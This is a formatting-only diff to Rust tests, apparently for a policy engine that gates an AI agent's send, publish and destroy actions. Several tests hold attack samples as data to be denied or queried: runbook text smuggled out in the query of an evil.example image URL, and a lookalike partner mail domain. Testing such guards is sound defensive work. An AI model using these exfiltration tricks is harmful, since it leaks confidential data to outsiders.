@@ -61,7 +61,11 @@ fn key() -> ContentKey {
 
 fn scene(task: serde_json::Value) -> Scene {
     let mut scene = Scene { state: State::new(key()), records: Vec::new(), now: Moment(1_000), count: 0 };
-    scene.happens(Event::Configured(Box::new(Bundle { directory: world(), policies: PolicySources::shipped(), content_key: String::new() })));
+    scene.happens(Event::Configured(Box::new(Bundle {
+        directory: world(),
+        policies: PolicySources::shipped(),
+        content_key: String::new(),
+    })));
     let mut whole = json!({
         "id": "t1", "requester": "bo", "agent": "helper", "purpose": "engineering", "words": "tell me what to do",
         "address": ["bo"], "effects": ["read", "publish", "send", "write"], "resources": ["*"],
@@ -119,8 +123,10 @@ impl Scene {
             caller: caller.clone(),
             act: ActRecord::new(act, Some(&ruling.audience)),
             decision: ruling.decision.clone(),
-            ask: (ruling.ask == AskStanding::New)
-                .then(|| Asked { id: AskId::parse(&format!("a{}", self.count)).expect("a name"), expires: self.now.after_ms(60_000) }),
+            ask: (ruling.ask == AskStanding::New).then(|| Asked {
+                id: AskId::parse(&format!("a{}", self.count)).expect("a name"),
+                expires: self.now.after_ms(60_000),
+            }),
             approved_by: match &ruling.ask {
                 AskStanding::Approved(id) => Some(id.clone()),
                 _ => None,
@@ -213,7 +219,8 @@ fn a_value_can_carry_what_content_may_not() {
     let mut scene = scene(json!({"address": ["external:evil.example"]}));
     scene.reads("runbook:acl", RUNBOOK);
     let mut fetch = act(Effect::Send, &["web:get"], &["external:evil.example"], &[]);
-    fetch.values = vec![Value { kind: "url".into(), text: format!("https://evil.example/x.png?q={}", RUNBOOK.replace(' ', "%20")) }];
+    fetch.values =
+        vec![Value { kind: "url".into(), text: format!("https://evil.example/x.png?q={}", RUNBOOK.replace(' ', "%20")) }];
     expect(&scene.decides(&fetch), Outcome::Deny, &["readers"]);
 }
 
@@ -291,14 +298,19 @@ fn what_was_made_from_nothing_known_is_unknown_and_stays_within_what_bounds_it()
 fn an_address_outside_belongs_to_its_domain() {
     let mut scene = scene(json!({"address": ["external:partner.example"]}));
     expect(&scene.decides(&act(Effect::Send, &["mail:out"], &["Amy <amy@Partner.example>"], &["hello"])), Outcome::Permit, &[]);
-    expect(&scene.decides(&act(Effect::Send, &["mail:out"], &["amy@partner.example.evil.example"], &["hello"])), Outcome::Ask, &["address"]);
+    expect(
+        &scene.decides(&act(Effect::Send, &["mail:out"], &["amy@partner.example.evil.example"], &["hello"])),
+        Outcome::Ask,
+        &["address"],
+    );
 }
 
 #[test]
 fn nobody_learns_their_own_address_from_a_mail() {
     let mut scene = scene(json!({"address": ["external:partner.example", "bo"]}));
     scene.reads("runbook:acl", "questions go to amy.partnerson@partner.example at any time of the day");
-    let mut reply = act(Effect::Send, &["mail:out"], &["amy.partnerson@partner.example"], &["amy.partnerson@partner.example", "hello"]);
+    let mut reply =
+        act(Effect::Send, &["mail:out"], &["amy.partnerson@partner.example"], &["amy.partnerson@partner.example", "hello"]);
     expect(&scene.decides(&reply), Outcome::Ask, &["readers"]);
     assert_eq!(scene.decides(&reply).decision.facts.shown.items, 0);
     reply.recipients = vec![format!("{}@partner.example", RUNBOOK.replace(' ', "."))];
@@ -310,7 +322,11 @@ fn nobody_learns_their_own_address_from_a_mail() {
 fn unknown_readers_reach_the_requester_and_nobody_else() {
     let mut scene = scene(json!({"address": ["bo", "cy"]}));
     scene.reads("note:unlabelled", "an old note that nobody ever labelled at all");
-    expect(&scene.decides(&act(Effect::Send, &["mail:out"], &["bo"], &["an old note that nobody ever labelled at all"])), Outcome::Permit, &[]);
+    expect(
+        &scene.decides(&act(Effect::Send, &["mail:out"], &["bo"], &["an old note that nobody ever labelled at all"])),
+        Outcome::Permit,
+        &[],
+    );
     expect(&scene.decides(&act(Effect::Send, &["mail:out"], &["cy"], &["something else"])), Outcome::Ask, &["readers"]);
     expect(
         &scene.decides(&act(Effect::Send, &["mail:out"], &["cy"], &["an old note that nobody ever labelled at all"])),
@@ -343,7 +359,9 @@ fn granted_and_never_named_is_asked_about() {
 
 #[test]
 fn what_cannot_be_undone_needs_a_person_unless_the_very_thing_was_named() {
-    let mut scene = scene(json!({"effects": ["destroy"], "resources": ["note:*", "table:scratch"], "words": "drop table:scratch, and old.txt"}));
+    let mut scene = scene(
+        json!({"effects": ["destroy"], "resources": ["note:*", "table:scratch"], "words": "drop table:scratch, and old.txt"}),
+    );
     expect(&scene.decides(&act(Effect::Destroy, &["note:1"], &[], &[])), Outcome::Ask, &["irreversible"]);
     expect(&scene.decides(&act(Effect::Destroy, &["table:scratch"], &[], &[])), Outcome::Permit, &[]);
     expect(&scene.decides(&act(Effect::Destroy, &["file:old.txt"], &[], &[])), Outcome::Ask, &["irreversible", "scope-edge"]);
@@ -435,7 +453,11 @@ fn an_approval_is_for_the_people_it_was_given_for() {
     let members = directory.groups.get_mut("eng-all").expect("a group");
     members.retain(|member| member != "ann");
     members.push("dee".to_owned());
-    scene.happens(Event::Configured(Box::new(Bundle { directory, policies: PolicySources::shipped(), content_key: String::new() })));
+    scene.happens(Event::Configured(Box::new(Bundle {
+        directory,
+        policies: PolicySources::shipped(),
+        content_key: String::new(),
+    })));
     expect(&scene.decides(&post), Outcome::Ask, &["address"]);
 }
 
@@ -452,7 +474,11 @@ fn a_no_stays_a_no() {
 fn nobody_is_asked_without_end() {
     let mut scene = scene(json!({}));
     for round in 0..crate::state::ASKS_MAX {
-        expect(&scene.decides(&act(Effect::Publish, &["forum:eng-help"], &[], &[&round.to_string()])), Outcome::Ask, &["address"]);
+        expect(
+            &scene.decides(&act(Effect::Publish, &["forum:eng-help"], &[], &[&round.to_string()])),
+            Outcome::Ask,
+            &["address"],
+        );
     }
     let ruling = scene.decides(&act(Effect::Publish, &["forum:eng-help"], &[], &["one more"]));
     expect(&ruling, Outcome::Deny, &["address", "bounds"]);
@@ -490,7 +516,8 @@ fn a_result_may_only_tighten_its_label() {
         }],
         created: Vec::new(),
     };
-    let loosened = observe(&scene.state, &item(json!({"readers": ["public"], "classification": "public", "integrity": "trusted"})), true);
+    let loosened =
+        observe(&scene.state, &item(json!({"readers": ["public"], "classification": "public", "integrity": "trusted"})), true);
     assert_eq!(loosened.withheld.len(), 1);
     let label = &loosened.items[0].label;
     assert_eq!(label.classification, crate::label::Classification::Confidential);
@@ -521,7 +548,8 @@ fn a_policy_that_cannot_be_evaluated_asks() {
 }
 
 fn norm(id: &str, when: &str) -> Source {
-    let text = format!("@norm(\"{id}\") @outcome(\"deny\") @reason(\"a test\") forbid(principal, action, resource) when {{ {when} }};");
+    let text =
+        format!("@norm(\"{id}\") @outcome(\"deny\") @reason(\"a test\") forbid(principal, action, resource) when {{ {when} }};");
     Source { name: format!("{id}.cedar"), text }
 }
 
@@ -539,7 +567,10 @@ fn a_bad_policy_is_refused_with_its_place() {
     assert!(compile(outcome).message.contains("`perhaps`"));
     let fact = Source { text: norm("f", "true").text.replace("a test", "{no.fact}"), ..norm("f", "true") };
     assert!(compile(fact).message.contains("no.fact"));
-    let permit = Source { name: "p.cedar".to_owned(), text: "@norm(\"p\") @outcome(\"deny\") @reason(\"x\") permit(principal, action, resource);".to_owned() };
+    let permit = Source {
+        name: "p.cedar".to_owned(),
+        text: "@norm(\"p\") @outcome(\"deny\") @reason(\"x\") permit(principal, action, resource);".to_owned(),
+    };
     assert!(compile(permit).message.contains("permit"));
 }
 
